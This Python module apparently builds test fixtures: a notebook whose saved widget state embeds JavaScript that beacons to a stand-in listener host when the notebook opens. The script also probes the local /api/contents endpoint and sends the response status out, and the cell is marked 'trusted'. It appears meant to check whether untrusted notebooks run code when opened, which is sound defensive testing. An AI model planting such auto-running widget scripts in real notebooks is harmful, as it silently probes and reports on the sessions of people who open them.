"""Notebooks and files of a stranger that try to do something as soon as they are opened."""

from __future__ import annotations

from importlib.metadata import version
from typing import Any

import nbformat

LISTENER = "https://listener.example"
"""Whatever runs asks this address; the browser's page notes it in ``outside``."""


def tells(what: str) -> str:
    """JavaScript that tells the listener."""
    return f"fetch('{LISTENER}/{what}').catch(() => 0);"


MODULE = f"""
{tells("module")}
fetch('/api/contents').then(answer => fetch('{LISTENER}/session-' + answer.status)).catch(() => 0);
export default {{
  initialize() {{ {tells("initialize")} }},
  render({{ el }}) {{ el.textContent = 'I am drawn.'; {tells("render")} }},
}};
"""


def widget_state(script: str = MODULE) -> dict[str, Any]:
    """What ipywidgets saves of one widget that carries its own script."""
    major, minor = version("anywidget").split(".")[:2]
    own = {
        "_model_module": "anywidget",
        "_model_module_version": f"~{major}.{minor}.*",
        "_model_name": "AnyModel",
        "_view_module": "anywidget",
        "_view_module_version": f"~{major}.{minor}.*",
        "_view_name": "AnyView",
        "_anywidget_id": "stranger.Widget",
        "_esm": script,
        "layout": "IPY_MODEL_m2",
    }
    layout = {
        "_model_module": "@jupyter-widgets/base",
        "_model_module_version": "2.0.0",
        "_model_name": "LayoutModel",
    }
    state = {
        "m1": {
            "model_module": "anywidget",
            "model_module_version": own["_model_module_version"],
            "model_name": "AnyModel",
            "state": own,
        },
        "m2": {
            "model_module": "@jupyter-widgets/base",
            "model_module_version": "2.0.0",
            "model_name": "LayoutModel",
            "state": layout,
        },
    }
    saved = {"version_major": 2, "version_minor": 0, "state": state}
    return {"application/vnd.jupyter.widget-state+json": saved}


def with_widget() -> Any:
    """A notebook with a saved widget, its picture, and words that show that it is open."""
    picture = (
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5E"
        "rkJggg=="
    )
    view = {"model_id": "m1", "version_major": 2, "version_minor": 0}
    output = nbformat.v4.new_output(
        "display_data",
        {
            "application/vnd.jupyter.widget-view+json": view,
            "image/png": picture,
            "text/plain": "a picture",
        },
    )
    cell = nbformat.v4.new_code_cell("1 + 1", execution_count=1, outputs=[output], id="one")
    cell.metadata["trusted"] = True
    words = nbformat.v4.new_markdown_cell("# It is open", id="words")
    kernel = {"name": "python3", "display_name": "Python 3 (ipykernel)", "language": "python"}
    metadata = {"kernelspec": kernel, "widgets": widget_state()}
    return nbformat.v4.new_notebook(cells=[words, cell], metadata=metadata)
